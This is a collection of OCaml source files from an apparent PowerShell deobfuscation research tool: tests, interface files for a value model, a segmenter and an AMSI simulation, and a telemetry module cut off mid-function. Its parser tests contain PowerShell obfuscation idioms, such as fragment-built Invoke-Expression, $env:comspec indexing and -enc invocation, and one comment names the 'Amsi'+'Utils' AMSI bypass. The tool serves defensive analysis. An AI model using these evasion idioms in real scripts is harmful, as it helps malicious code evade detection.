    (Pscommon.Strcase.contains ~needle:"\"events\": 40, \"dropped\": 24"
       (T.to_jsonl tr))

(* ---------- histogram bucket edges ---------- *)

let test_histogram_buckets () =
  (* first bucket swallows everything at or below its bound, including
     zero and negatives *)
  check_i "zero" 0 (M.bucket_of 0.0);
  check_i "negative" 0 (M.bucket_of (-3.0));
  check_i "tiny" 0 (M.bucket_of 0.0625);
  (* an observation exactly at a bound lands in that bucket; just above
     goes to the next *)
  for i = 0 to M.bucket_count - 2 do
    check_i "exact bound" i (M.bucket_of (M.bucket_bound i));
    if i + 1 < M.bucket_count - 1 then
      check_i "just above bound" (i + 1)
        (M.bucket_of (M.bucket_bound i *. 1.0001))
  done;
  (* huge and non-finite observations land in the overflow bucket *)
  check_i "huge" (M.bucket_count - 1) (M.bucket_of 1e12);
  check_i "infinity" (M.bucket_count - 1) (M.bucket_of infinity);
  check_i "nan" (M.bucket_count - 1) (M.bucket_of nan);
  check_b "overflow bound is infinite" true
    (M.bucket_bound (M.bucket_count - 1) = infinity)

let test_histogram_snapshot () =
  M.reset ();
  let h = M.histogram "test.snapshot_ms" in
  List.iter (M.observe h) [ 0.1; 0.1; 3.0; 1000.0 ];
  let snap = M.snapshot () in
  match List.assoc_opt "test.snapshot_ms" snap.M.histograms with
  | None -> Alcotest.fail "histogram missing from snapshot"
  | Some hs ->
      check_i "count" 4 hs.M.hs_count;
      check_b "sum" true (abs_float (hs.M.hs_sum -. 1003.2) < 1e-6);
      check_b "min" true (hs.M.hs_min = 0.1);
      check_b "max" true (hs.M.hs_max = 1000.0);
      check_i "non-empty buckets" 3 (List.length hs.M.hs_buckets);
      check_i "total bucketed" 4
        (List.fold_left (fun acc (_, n) -> acc + n) 0 hs.M.hs_buckets)

(* ---------- cross-domain aggregation ---------- *)

let test_metrics_aggregate_across_domains () =
  M.reset ();
  let c = M.counter "test.cross_domain" in
  let h = M.histogram "test.cross_domain_ms" in
  let per_task = 1000 in
  ignore
    (Pool.map ~jobs:4
       (fun task ->
         for _ = 1 to per_task do
           M.incr c
         done;
         M.observe h (float_of_int task);
         task)
       [ 1; 2; 3; 4; 5; 6; 7; 8 ]);
  check_i "counter sums every domain" (8 * per_task) (M.counter_value c);
  let snap = M.snapshot () in
  match List.assoc_opt "test.cross_domain_ms" snap.M.histograms with
  | None -> Alcotest.fail "histogram missing"
  | Some hs ->
      check_i "all observations kept" 8 hs.M.hs_count;
      check_b "sum" true (abs_float (hs.M.hs_sum -. 36.0) < 1e-9)

let test_reset_keeps_handles () =
  let c = M.counter "test.reset" in
  M.incr ~by:7 c;
  M.reset ();
  check_i "zeroed" 0 (M.counter_value c);
  M.incr c;
  check_i "handle still live" 1 (M.counter_value c)

(* ---------- traces don't perturb batch output ---------- *)

let write_file path text =
  Out_channel.with_open_bin path (fun oc -> Out_channel.output_string oc text)

let test_batch_trace_identity () =
  let dir = Filename.temp_dir "telemetry_batch" "" in
  let rng = Pscommon.Rng.of_int 7 in
  let files =
    List.init 6 (fun i ->
        let path = Filename.concat dir (Printf.sprintf "s%d.ps1" i) in
        write_file path
          (Obfuscator.Obfuscate.multilayer rng 2
             (Printf.sprintf
                "$x%d = 'pay';$y = 'load';Write-Host ($x%d + $y)" i i));
        path)
  in
  let out_plain = Filename.concat dir "out_plain" in
  let out_traced = Filename.concat dir "out_traced" in
  let trace_dir = Filename.concat dir "traces" in
  let s1 =
    Deobf.Batch.run_files ~timeout_s:30.0 ~out_dir:out_plain ~jobs:1 files
  in
  let s2 =
    Deobf.Batch.run_files ~timeout_s:30.0 ~out_dir:out_traced ~trace_dir
      ~jobs:4 files
  in
  check_i "same clean count" s1.Deobf.Batch.clean s2.Deobf.Batch.clean;
  List.iter
    (fun file ->
      let base = Filename.basename file in
      let read d =
        In_channel.with_open_bin (Filename.concat d base) In_channel.input_all
      in
      check_s ("output " ^ base) (read out_plain) (read out_traced);
      let trace_file = Filename.concat trace_dir (base ^ ".trace.jsonl") in
      check_b ("trace exists for " ^ base) true (Sys.file_exists trace_file);
      let trace = In_channel.with_open_bin trace_file In_channel.input_all in
      check_b "trace has a batch.file root span" true
        (Pscommon.Strcase.contains ~needle:"\"name\": \"batch.file\"" trace))
    files;
  (* the rollup is valid for this run: counts cover all six files *)
  let rollup = Deobf.Batch.metrics_json s2 in
  check_b "rollup lists the cache" true
    (Pscommon.Strcase.contains ~needle:"\"pieces_attempted\"" rollup)

(* ---------- disabled path allocates nothing ---------- *)

let test_disabled_path_zero_alloc () =
  T.uninstall ();
  (* warm up so any one-time setup is outside the measured window *)
  for _ = 1 to 100 do
    T.event "warm"
  done;
  let before = Gc.minor_words () in
  for _ = 1 to 10_000 do
    T.event "bench";
    ignore (T.span_begin "bench")
  done;
  let allocated = Gc.minor_words () -. before in
  (* 20k disabled calls: a DLS read and a comparison each, no allocation.
     Allow slack for the loop itself and instrumentation noise. *)
  check_b
    (Printf.sprintf "allocated %.0f minor words for 20k disabled calls"
       allocated)
    true
    (allocated < 100.0)

let suite =
  [
    Alcotest.test_case "span nesting and ordering" `Quick test_span_nesting;
    Alcotest.test_case "span_end auto-closes" `Quick test_span_end_autoclose;
    Alcotest.test_case "disabled API is inert" `Quick test_disabled_is_inert;
    Alcotest.test_case "jsonl round-trip" `Quick test_jsonl_roundtrip;
    Alcotest.test_case "ring drops oldest" `Quick test_ring_drops_oldest;
    Alcotest.test_case "histogram bucket edges" `Quick test_histogram_buckets;
    Alcotest.test_case "histogram snapshot" `Quick test_histogram_snapshot;
    Alcotest.test_case "metrics aggregate across domains" `Quick
      test_metrics_aggregate_across_domains;
    Alcotest.test_case "reset keeps handles" `Quick test_reset_keeps_handles;
    Alcotest.test_case "batch trace identity" `Quick test_batch_trace_identity;
    Alcotest.test_case "disabled path zero-alloc" `Quick
      test_disabled_path_zero_alloc;
  ]
