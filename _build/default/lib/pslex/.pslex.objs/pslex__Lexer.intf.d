lib/pslex/lexer.mli: Token
