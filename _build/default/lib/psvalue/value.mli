(** PowerShell runtime values.

    The interpreter only ever executes {e recoverable pieces} — code whose
    result should be a string, number or simple collection — so the value
    model covers PowerShell's primitives, arrays, hashtables, script blocks
    and the handful of .NET object kinds that obfuscation recovery code
    touches (streams, encodings, WebClient). *)

type t =
  | Null
  | Bool of bool
  | Int of int
  | Float of float
  | Str of string
  | Char of char
  | Arr of t array  (** mutable on purpose: [\[array\]::Reverse] mutates *)
  | Hash of (t * t) list
  | Script_block of sb
  | Secure_string of string
      (** simulation keeps the plaintext; [Marshal::PtrToStringAuto] round
          trips recover it *)
  | Obj of ps_object

and sb = { sb_ast : Psast.Ast.script_block; sb_text : string }

and ps_object = { otype : string; okind : object_kind }

and object_kind =
  | Web_client
  | Memory_stream of stream_state
  | Deflate_stream of stream_state  (** holds already-inflated data *)
  | Gzip_stream of stream_state
  | Stream_reader of stream_state
  | Encoding_obj of encoding_name
  | Bstr of string  (** result of [SecureStringToBSTR] *)
  | Generic  (** only its type name is known — [ToString] yields it *)

and stream_state = { mutable data : string; mutable pos : int }

and encoding_name = Enc_unicode | Enc_utf8 | Enc_ascii | Enc_default | Enc_utf32

exception Conversion_error of string

(** {1 Collections} *)

val of_list : t list -> t
(** [\[\]] is [Null], a singleton is its element, anything longer an
    array — how pipeline output collapses to a single value. *)

val to_list : t -> t list
(** Inverse-ish: [Null] enumerates to nothing, arrays to their elements,
    scalars to themselves. *)

(** {1 Conversions (PowerShell semantics)} *)

val type_name : t -> string
(** .NET-style type name, e.g. ["System.Int32"]. *)

val encoding_type_name : encoding_name -> string

val to_string : t -> string
(** PowerShell stringification: [Null] is [""], booleans are
    ["True"]/["False"], arrays join with spaces, objects print their type
    name. *)

val float_to_string : float -> string
(** Culture-invariant, integral floats without a decimal point. *)

val to_int : t -> int
(** Parses hex strings (["0x4B"]), trims whitespace, takes char code
    points.  @raise Conversion_error when there is no numeric reading. *)

val to_float : t -> float
val to_bool : t -> bool
(** PowerShell truthiness: empty string/array and zero are false; a
    singleton array delegates to its element. *)

val to_char : t -> char
(** Code points and single-character strings.  @raise Conversion_error. *)

(** {1 Byte strings} *)

val bytes_to_value : string -> t
(** A byte string as an [Int] array — the shape
    [\[Convert\]::FromBase64String] returns. *)

val value_to_bytes : t -> string
(** Strings pass through; arrays must hold bytes/chars.
    @raise Conversion_error. *)

val chars_to_value : string -> t
(** A string as a [Char] array ([\[char\[\]\]] cast). *)

(** {1 Comparison} *)

val equal_loose : ?case_sensitive:bool -> t -> t -> bool
(** [-eq] semantics: the left operand's type drives coercion; strings
    compare caselessly unless [case_sensitive]. *)

val compare_loose : ?case_sensitive:bool -> t -> t -> int
(** Ordering for [-lt]/[-gt]; numeric left operands coerce the right.
    @raise Conversion_error on unorderable values. *)

(** {1 Source rendering (recovery results)} *)

val quote_single : string -> string
(** Single-quoted PowerShell literal with [''] escaping. *)

val to_source_opt : t -> string option
(** Render a recovery result back into script text: strings single-quoted,
    numbers bare, string arrays as literals.  [None] when the value has no
    faithful source form (objects, hashtables, control characters) — the
    paper keeps the obfuscated piece in that case (§III-B2). *)

val is_stringlike : t -> bool

val pp : Format.formatter -> t -> unit
