lib/encoding/digits.mli:
