(* Tests for the AST library: traversal orders, children, ancestors. *)

module A = Psast.Ast

let check_b = Alcotest.(check bool)
let check_i = Alcotest.(check int)
let check_s = Alcotest.(check string)

let parse = Psparse.Parser.parse_exn

let test_children_complete () =
  (* every node's extent contains all its children's extents, and every
     character of a child belongs to the parent's slice *)
  let src = "if ($a) { 'x' + 'y' } else { foreach ($i in 1..3) { $i } }" in
  let ast = parse src in
  A.iter_post_order
    (fun node ->
      List.iter
        (fun child ->
          check_b "child within parent" true
            (Pscommon.Extent.contains node.A.extent child.A.extent))
        (A.children node))
    ast

let test_post_order_children_first () =
  let src = "('a'+'b')" in
  let ast = parse src in
  let order = ref [] in
  A.iter_post_order (fun n -> order := A.kind_name n :: !order) ast;
  let order = List.rev !order in
  let idx k =
    let rec go i = function
      | [] -> -1
      | x :: rest -> if x = k then i else go (i + 1) rest
    in
    go 0 order
  in
  check_b "constants before binary" true
    (idx "StringConstantExpressionAst" < idx "BinaryExpressionAst");
  check_b "binary before paren" true
    (idx "BinaryExpressionAst" < idx "ParenExpressionAst");
  check_s "root last" "ScriptBlockAst" (List.nth order (List.length order - 1))

let test_pre_order_root_first () =
  let ast = parse "'x'" in
  let first = ref None in
  ignore
    (A.fold_pre_order
       (fun () n -> if !first = None then first := Some (A.kind_name n))
       () ast);
  check_s "root first" "ScriptBlockAst" (Option.get !first)

let test_count_nodes () =
  check_b "monotone with nesting" true
    (A.count_nodes (parse "(('a'))") > A.count_nodes (parse "'a'"))

let test_ancestors () =
  let src = "$x = ('a'+'b')" in
  let ast = parse src in
  let seen = ref None in
  ignore
    (A.fold_post_order_with_ancestors
       (fun ancestors () n ->
         match n.A.node with
         | A.Binary_expr _ ->
             seen := Some (List.map A.kind_name ancestors)
         | _ -> ())
       () ast);
  match !seen with
  | Some (parent :: rest) ->
      check_s "immediate parent" "CommandExpressionAst" parent;
      check_b "paren in chain" true (List.mem "ParenExpressionAst" rest);
      check_b "assignment in chain" true (List.mem "AssignmentStatementAst" rest)
  | _ -> Alcotest.fail "binary not found"

let test_command_name () =
  let ast = parse "write-host hello" in
  let name = ref None in
  A.iter_post_order
    (fun n ->
      match n.A.node with
      | A.Command cmd -> name := A.command_name cmd
      | _ -> ())
    ast;
  Alcotest.(check (option string)) "name" (Some "write-host") !name

let test_kind_names_match_paper_taxonomy () =
  (* the recoverable-node kinds of paper §III-B1 must carry their official
     names, because the whole methodology is phrased in terms of them *)
  List.iter
    (fun (src, kind) ->
      let found = ref false in
      A.iter_post_order
        (fun n -> if A.kind_name n = kind then found := true)
        (parse src);
      check_b kind true !found)
    [ ("a | b", "PipelineAst"); ("-join $x", "UnaryExpressionAst");
      ("1 + 2", "BinaryExpressionAst"); ("[char]65", "ConvertExpressionAst");
      ("$s.Replace('a','b')", "InvokeMemberExpressionAst");
      ("$(1)", "SubExpressionAst") ]

let test_recoverable_nodes_detected () =
  List.iter
    (fun src ->
      let ast = parse src in
      let any = ref false in
      A.iter_post_order
        (fun n -> if Deobf.Recover.is_recoverable n then any := true)
        ast;
      check_b (src ^ " has recoverable node") true !any)
    [ "'a'+'b'"; "[char]104"; "$s.ToUpper()"; "$(1+1)"; "-join $a" ]

let test_printer_roundtrips () =
  List.iter
    (fun src ->
      let printed = Psast.Printer.print (parse src) in
      check_b (src ^ " prints to valid syntax") true
        (Psparse.Parser.is_valid_syntax printed))
    [ "write-host hello"; "$x = ('a'+'b').Replace('a','c')";
      "if ($a) { 1 } elseif ($b) { 2 } else { 3 }";
      "foreach ($i in 1..3) { $i * 2 }";
      "function f($a, $b) { return $a + $b }";
      "try { throw 'x' } catch { 'c' } finally { 'f' }";
      "switch (2) { 1 { 'one' } default { 'd' } }";
      "& ('ie'+'x') 'write-host 1'"; "@{a = 1; b = 'two'}";
      "$env:comspec[4,24,25] -join ''";
      "[Text.Encoding]::Unicode.GetString([Convert]::FromBase64String($x))";
      "powershell -enc abc -NoProfile"; "1,2,3 | % { $_ }";
      "do { $i++ } while ($i -lt 3)"; "begin { 1 } process { $_ } end { 2 }" ]

let prop_printer_preserves_behavior =
  QCheck.Test.make ~name:"printer: canonical rendering preserves behaviour"
    ~count:40 QCheck.small_nat
    (fun seed ->
      let rng = Pscommon.Rng.of_int (seed * 7 + 1) in
      let _, clean = Corpus.Templates.generate rng in
      let ob, _ = Obfuscator.Obfuscate.wild_mix rng clean in
      match Psparse.Parser.parse ob with
      | Error _ -> false
      | Ok ast ->
          let printed = Psast.Printer.print ast in
          Psparse.Parser.is_valid_syntax printed
          && Sandbox.same_network_behavior (Sandbox.run ob) (Sandbox.run printed))

let suite =
  [
    ("children complete", `Quick, test_children_complete);
    ("printer roundtrips", `Quick, test_printer_roundtrips);
    QCheck_alcotest.to_alcotest prop_printer_preserves_behavior;
    ("post-order children first", `Quick, test_post_order_children_first);
    ("pre-order root first", `Quick, test_pre_order_root_first);
    ("count nodes", `Quick, test_count_nodes);
    ("ancestors", `Quick, test_ancestors);
    ("command name", `Quick, test_command_name);
    ("paper taxonomy names", `Quick, test_kind_names_match_paper_taxonomy);
    ("recoverable nodes", `Quick, test_recoverable_nodes_detected);
  ]
