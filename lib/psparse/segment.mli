(** Partial-parse segmentation: carve an unparseable script into maximal
    parseable regions.

    Real-world corpora are full of truncated downloads, binary-prefixed
    droppers and half-decoded fragments; an all-or-nothing parser forfeits
    every recoverable statement the moment one byte is bad.  This module
    finds {e statement-boundary sync points} (newline / [;] at bracket
    depth zero, outside strings, here-strings and comments), classifies
    the chunks between them, and coalesces adjacent parseable chunks into
    maximal regions whose concatenation still parses.  Unparseable and
    binary chunks come back as {!Opaque} / {!Binary} regions to be passed
    through verbatim. *)

type kind =
  | Parseable  (** the region text lexes and parses on its own *)
  | Opaque  (** text that failed to parse — passed through verbatim *)
  | Binary  (** a binary blob (NULs or mostly non-printable bytes) *)

type region = { start : int; stop : int; kind : kind }
(** Half-open byte range [\[start, stop)] of the original source.  Regions
    are contiguous and cover the whole input. *)

val sync_points : string -> int list
(** Candidate statement boundaries, ascending, always including [0] and
    [length src].  A sync point follows a newline or [;] seen at brace /
    paren / bracket depth zero outside quoted strings, here-strings and
    comments; unbalanced closers clamp the depth at zero so a stray [}]
    cannot swallow the rest of the file. *)

val segment : ?max_attempts:int -> string -> region list
(** Segment [src].  [max_attempts] bounds the number of parse attempts
    (default 512); once exhausted, remaining chunks are classified
    {!Opaque} rather than risking quadratic work on adversarial inputs.
    Each parse attempt runs under {!Pscommon.Guard.protect}, so a chunk
    whose parse blows the stack just becomes {!Opaque}.  A fully
    parseable input returns a single {!Parseable} region.  Opaque regions
    get a second, depth-insensitive refinement pass: an unbalanced opener
    inside the damage must not swallow every statement after it, so the
    region is re-split at quote-aware newlines and the refinement is kept
    whenever it surfaces a parseable sub-region.  Whitespace-only regions
    are demoted to {!Opaque}: they carry nothing to recover. *)

val parseable_bytes : region list -> int
(** Total bytes covered by {!Parseable} regions. *)
