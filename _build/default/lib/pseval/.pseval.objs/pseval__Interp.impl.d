lib/pseval/interp.ml: Array Buffer Casts Encoding Env Format_op Fun List Members Ops Printf Psast Pscommon Pslex Psparse Psvalue Regexen Statics String Value
