lib/obfuscator/l1.ml: Buffer Char Extent Hashtbl List Patch Pscommon Pslex Rng Strcase String
