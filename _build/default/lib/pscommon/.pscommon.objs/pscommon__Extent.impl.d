lib/pscommon/extent.ml: Format Int String
