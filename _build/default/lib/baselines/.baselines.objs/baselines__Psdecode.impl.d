lib/baselines/psdecode.ml: Lazy Override Regexen Tool
