lib/experiments/amsi_compare.ml: Baselines Corpus Deobf Effectiveness Keyinfo List Printf Pscommon String
