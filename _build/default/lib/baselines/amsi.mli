(** AMSI simulation (paper §V-B): observe every script string that reaches
    the engine.  Unlike the overriding-function tools the hook fires below
    name resolution, so obfuscated spellings are seen too — but code that is
    never invoked is never seen, which is AMSI's inherent blind spot and the
    ['Amsi'+'Utils'] bypass. *)

type capture = {
  layers : string list;  (** every script string the engine received;
                             the input itself is the first *)
  events : Pseval.Env.event list;
}

val scan : ?max_steps:int -> string -> capture

val final_layer : capture -> string
(** The deepest layer — what an analyst reads from an AMSI trace. *)

val tool : Tool.t
(** AMSI as a comparable "deobfuscator" for the §V-B experiment. *)
