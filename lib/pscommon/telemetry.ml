(** Observability substrate: span tracer, metrics registry, leveled logger.

    Zero external dependencies and domain-safe by construction:
    {ul
    {- the {e tracer} writes into a per-run ring buffer installed as an
       ambient, {e domain-local} context ([Domain.DLS]) — a trace belongs to
       exactly one domain at a time, so its buffer needs no locking, and
       parallel batch workers each trace their own file without contention;}
    {- the {e metrics registry} is process-global and written from every
       pool domain concurrently, so every cell is an [Atomic] (float cells
       use a CAS loop) and registration takes a mutex;}
    {- the {e logger} level is an [Atomic] read on every call; emission
       takes a mutex so concurrent lines never interleave.}}

    The disabled fast path is one [Domain.DLS.get] plus an immediate
    comparison — no allocation — so instrumentation can stay in hot code
    unconditionally. *)

(* ---------- JSON helpers (local: pscommon depends on nothing) ---------- *)

let json_escape s =
  let buf = Buffer.create (String.length s + 8) in
  String.iter
    (fun c ->
      match c with
      | '"' -> Buffer.add_string buf "\\\""
      | '\\' -> Buffer.add_string buf "\\\\"
      | '\n' -> Buffer.add_string buf "\\n"
      | '\r' -> Buffer.add_string buf "\\r"
      | '\t' -> Buffer.add_string buf "\\t"
      | c when Char.code c < 0x20 ->
          Buffer.add_string buf (Printf.sprintf "\\u%04x" (Char.code c))
      | c -> Buffer.add_char buf c)
    s;
  Buffer.contents buf

let json_string s = "\"" ^ json_escape s ^ "\""

let json_float f =
  if Float.is_integer f && Float.abs f < 1e15 then
    Printf.sprintf "%.1f" f
  else Printf.sprintf "%.6g" f

(* ---------- attributes ---------- *)

type attr_value = S of string | I of int | F of float | B of bool
type attr = string * attr_value

let attr_value_to_json = function
  | S s -> json_string s
  | I n -> string_of_int n
  | F f -> json_float f
  | B b -> string_of_bool b

let attrs_to_json attrs =
  "{"
  ^ String.concat ", "
      (List.map (fun (k, v) -> json_string k ^ ": " ^ attr_value_to_json v) attrs)
  ^ "}"

(* ---------- leveled logger ---------- *)

module Log = struct
  type level = Error | Warn | Info | Debug

  let rank = function Error -> 0 | Warn -> 1 | Info -> 2 | Debug -> 3
  let label = function
    | Error -> "error" | Warn -> "warn" | Info -> "info" | Debug -> "debug"

  let of_string s =
    match String.lowercase_ascii (String.trim s) with
    | "error" -> Some Error
    | "warn" | "warning" -> Some Warn
    | "info" -> Some Info
    | "debug" -> Some Debug
    | _ -> None

  (* [None] = silent (the default); an Atomic so workers spawned after a
     CLI [--log-level] all observe it *)
  let current : level option Atomic.t = Atomic.make None
  let set_level l = Atomic.set current l
  let level () = Atomic.get current

  let enabled l =
    match Atomic.get current with
    | None -> false
    | Some threshold -> rank l <= rank threshold

  let emit_mutex = Mutex.create ()

  type format = Text | Json

  (* the output shape is process-wide, like the level: a daemon either
     feeds a log pipeline (JSONL) or a human (text), never both *)
  let current_format : format Atomic.t = Atomic.make Text
  let set_format f = Atomic.set current_format f
  let format () = Atomic.get current_format

  let format_of_string s =
    match String.lowercase_ascii (String.trim s) with
    | "text" -> Some Text
    | "json" | "jsonl" -> Some Json
    | _ -> None

  let log ?(fields = []) l msg =
    if enabled l then begin
      Mutex.lock emit_mutex;
      Fun.protect
        ~finally:(fun () -> Mutex.unlock emit_mutex)
        (fun () ->
          match Atomic.get current_format with
          | Text -> Printf.eprintf "[%s] %s\n%!" (label l) (msg ())
          | Json ->
              let extra =
                String.concat ""
                  (List.map
                     (fun (k, v) ->
                       Printf.sprintf ", %s: %s" (json_string k)
                         (attr_value_to_json v))
                     fields)
              in
              Printf.eprintf
                "{\"ts\": %.6f, \"level\": %s, \"domain\": %d, \"msg\": %s%s}\n%!"
                (Unix.gettimeofday ())
                (json_string (label l))
                (Domain.self () :> int)
                (json_string (msg ()))
                extra)
    end

  let error msg = log Error msg
  let warn msg = log Warn msg
  let info msg = log Info msg
  let debug msg = log Debug msg
end

(* ---------- trace / request identifiers ---------- *)

(* Trace ids correlate one request's (or one batch file's) events across
   the span stream, the flight recorder and the response protocol.  They
   are {e observation-only}: allocation draws from a process-global
   counter, never from the chaos stream or anything output-affecting, so
   ids vary across runs while outputs stay byte-identical. *)

let id_counter = Atomic.make 0

(* one process nonce so ids from different daemon instances never collide
   in a shared log pipeline *)
let id_nonce =
  lazy
    ((Unix.getpid () land 0xffff)
    lxor (int_of_float (Unix.gettimeofday () *. 1000.0) land 0xfffffff))

let new_trace_id () =
  Printf.sprintf "%07x-%06x" (Lazy.force id_nonce)
    (Atomic.fetch_and_add id_counter 1 land 0xffffff)

(* The ambient request id of the current domain: installed around one
   request (or one batch file), picked up by traces created or reset in
   scope and stamped on every flight-recorder entry. *)
let current_request : string option Domain.DLS.key =
  Domain.DLS.new_key (fun () -> None)

let current_request_id () = Domain.DLS.get current_request

let with_request_id rid f =
  let previous = Domain.DLS.get current_request in
  Domain.DLS.set current_request (Some rid);
  Fun.protect
    ~finally:(fun () -> Domain.DLS.set current_request previous)
    f

(* ---------- trace events ---------- *)

type kind = Span_begin | Span_end | Point

let kind_label = function
  | Span_begin -> "begin"
  | Span_end -> "end"
  | Point -> "event"

type event = {
  seq : int;  (** 0-based position in the run's event stream *)
  t_ms : float;  (** ms since trace creation, clamped non-decreasing *)
  kind : kind;
  name : string;
  id : int;  (** span id for begin/end; 0 for point events *)
  parent : int;  (** enclosing span id, 0 at top level *)
  attrs : attr list;
}

let dummy_event =
  { seq = 0; t_ms = 0.0; kind = Point; name = ""; id = 0; parent = 0; attrs = [] }

type open_span = { os_id : int; os_name : string; os_parent : int }

type trace = {
  buf : event array;
  capacity : int;
  mutable trace_id : string;
      (** request correlation id; the ambient request id at creation/reset
          when one is in scope, else freshly allocated *)
  mutable pushed : int;  (** total events ever pushed (= next seq) *)
  mutable dropped : int;  (** oldest events overwritten by the ring *)
  mutable created : float;  (** wall clock at creation (epoch seconds) *)
  mutable last_ms : float;  (** monotonicity clamp for [t_ms] *)
  mutable next_id : int;
  mutable stack : open_span list;  (** innermost open span first *)
}

let fresh_trace_id () =
  match Domain.DLS.get current_request with
  | Some rid -> rid
  | None -> new_trace_id ()

let create ?(capacity = 65536) () =
  let capacity = max 16 capacity in
  { buf = Array.make capacity dummy_event; capacity;
    trace_id = fresh_trace_id (); pushed = 0; dropped = 0;
    created = Unix.gettimeofday (); last_ms = 0.0; next_id = 0; stack = [] }

let trace_id t = t.trace_id
let set_trace_id t id = t.trace_id <- id

(* The wall clock can step backwards (NTP); event timestamps are clamped to
   the previous event's, so the stream is non-decreasing by construction. *)
let now_ms t =
  let ms = (Unix.gettimeofday () -. t.created) *. 1000.0 in
  let ms = if ms < t.last_ms then t.last_ms else ms in
  t.last_ms <- ms;
  ms

let push t kind name ~id ~parent attrs =
  let e = { seq = t.pushed; t_ms = now_ms t; kind; name; id; parent; attrs } in
  t.buf.(t.pushed mod t.capacity) <- e;
  if t.pushed >= t.capacity then t.dropped <- t.dropped + 1;
  t.pushed <- t.pushed + 1

(* Rewind a trace for reuse without reallocating the ring: a long-running
   daemon (or a sampling batch run) traces thousands of requests, and a
   fresh 64k-slot ring per request is pure allocator pressure when most
   traces are never serialized. *)
let reset t =
  t.trace_id <- fresh_trace_id ();
  t.created <- Unix.gettimeofday ();
  t.pushed <- 0;
  t.dropped <- 0;
  t.last_ms <- 0.0;
  t.next_id <- 0;
  t.stack <- []

(* ---------- ambient installation (Domain.DLS) ---------- *)

let ambient : trace option Domain.DLS.key = Domain.DLS.new_key (fun () -> None)

let install t = Domain.DLS.set ambient (Some t)
let uninstall () = Domain.DLS.set ambient None

let with_trace t f =
  let previous = Domain.DLS.get ambient in
  Domain.DLS.set ambient (Some t);
  Fun.protect ~finally:(fun () -> Domain.DLS.set ambient previous) f

(* ---------- flight recorder ---------- *)

(* A black box for the daemon: each domain keeps a fixed ring of the most
   recent spans/events it recorded, fed from the same instrumentation call
   sites as the tracer but independent of any installed trace.  On a fault
   — a recycled worker, a deadline blown, a chaos probe contained, a
   diverged verify verdict — the ring is dumped as JSONL and cleared, so
   every fault gets the events leading up to it at zero serialization cost
   on the happy path.  Disabled (the default) it costs one atomic load per
   instrumentation call and records nothing. *)
module Flight = struct
  type entry = {
    f_seq : int;  (** total entries ever recorded by this domain *)
    f_at : float;  (** wall clock, epoch seconds *)
    f_kind : string;  (** "begin" | "end" | "event" | "note" *)
    f_name : string;
    f_attrs : attr list;
    f_trace : string;  (** ambient request id at record time, "" if none *)
  }

  let capacity = 512

  type ring = { slots : entry array; mutable total : int }

  let dummy_entry =
    { f_seq = 0; f_at = 0.0; f_kind = ""; f_name = ""; f_attrs = [];
      f_trace = "" }

  let ring_key : ring Domain.DLS.key =
    Domain.DLS.new_key (fun () ->
        { slots = Array.make capacity dummy_entry; total = 0 })

  (* [Some dir] = record, dump into [dir]; the boolean mirror is the hot
     path's single atomic load *)
  let sink : string option Atomic.t = Atomic.make None
  let on : bool Atomic.t = Atomic.make false

  let set_sink d =
    Atomic.set sink d;
    Atomic.set on (Option.is_some d)

  let enabled () = Atomic.get on

  let dump_counter = Atomic.make 0
  let dumps_total () = Atomic.get dump_counter

  let note ?(attrs = []) ~kind name =
    if Atomic.get on then begin
      let r = Domain.DLS.get ring_key in
      let rid =
        match Domain.DLS.get current_request with Some s -> s | None -> ""
      in
      r.slots.(r.total mod capacity) <-
        { f_seq = r.total; f_at = Unix.gettimeofday (); f_kind = kind;
          f_name = name; f_attrs = attrs; f_trace = rid };
      r.total <- r.total + 1
    end

  let record ?attrs name = note ?attrs ~kind:"note" name

  let entries () =
    let r = Domain.DLS.get ring_key in
    let n = min r.total capacity in
    let first = r.total - n in
    List.init n (fun i -> r.slots.((first + i) mod capacity))

  let clear () =
    let r = Domain.DLS.get ring_key in
    r.total <- 0

  let entry_to_json e =
    Printf.sprintf
      "{\"seq\": %d, \"at\": %.6f, \"kind\": %s, \"name\": %s, \
       \"trace_id\": %s, \"attrs\": %s}"
      e.f_seq e.f_at (json_string e.f_kind) (json_string e.f_name)
      (json_string e.f_trace)
      (attrs_to_json e.f_attrs)

  (* the dump body: a header line carrying the dump reason, the triggering
     request's trace id and the recording domain, then the ring oldest
     first *)
  let render ~reason () =
    let es = entries () in
    let rid =
      match Domain.DLS.get current_request with
      | Some s -> s
      | None -> (
          (* outside the request scope (e.g. the pool's recycle catch):
             attribute the dump to the last recorded request *)
          match List.rev es with
          | e :: _ when e.f_trace <> "" -> e.f_trace
          | _ -> "")
    in
    let buf = Buffer.create 4096 in
    Buffer.add_string buf
      (Printf.sprintf
         "{\"kind\": \"flight\", \"reason\": %s, \"trace_id\": %s, \
          \"domain\": %d, \"at\": %.6f, \"entries\": %d}\n"
         (json_string reason) (json_string rid)
         (Domain.self () :> int)
         (Unix.gettimeofday ()) (List.length es));
    List.iter
      (fun e ->
        Buffer.add_string buf (entry_to_json e);
        Buffer.add_char buf '\n')
      es;
    Buffer.contents buf

  (* Dump the current domain's ring to the sink directory and clear it.
     Totalised: a failing dump (unwritable directory, disk full) is
     recording, and recording must never take the request path down with
     it.  Returns the path written, [None] when disabled or the write
     failed. *)
  let dump ~reason () =
    match Atomic.get sink with
    | None -> None
    | Some dir -> (
        let body = render ~reason () in
        clear ();
        let n = Atomic.fetch_and_add dump_counter 1 in
        let path =
          Filename.concat dir
            (Printf.sprintf "flight-%d-%d.jsonl" (Unix.getpid ()) n)
        in
        try
          (try
             if not (Sys.file_exists dir) then Unix.mkdir dir 0o755
           with Unix.Unix_error _ | Sys_error _ -> ());
          Out_channel.with_open_bin path (fun oc ->
              Out_channel.output_string oc body);
          Some path
        with _ -> None)
end

let active () =
  Option.is_some (Domain.DLS.get ambient) || Flight.enabled ()

let current_span t =
  match t.stack with [] -> 0 | s :: _ -> s.os_id

(* ---------- recording ---------- *)

let span_begin ?(attrs = []) name =
  if Atomic.get Flight.on then Flight.note ~attrs ~kind:"begin" name;
  match Domain.DLS.get ambient with
  | None -> 0
  | Some t ->
      let id = t.next_id + 1 in
      t.next_id <- id;
      let parent = current_span t in
      push t Span_begin name ~id ~parent attrs;
      t.stack <- { os_id = id; os_name = name; os_parent = parent } :: t.stack;
      id

let span_end ?(attrs = []) id =
  if id <> 0 then
    match Domain.DLS.get ambient with
    | None -> ()
    | Some t ->
        (* close down to [id]; spans left open by a non-local exit between
           matching begin/end calls are auto-closed on the way *)
        let rec close = function
          | [] -> []  (* unknown id (already closed): drop nothing *)
          | s :: rest when s.os_id = id ->
              push t Span_end s.os_name ~id:s.os_id ~parent:s.os_parent attrs;
              if Atomic.get Flight.on then
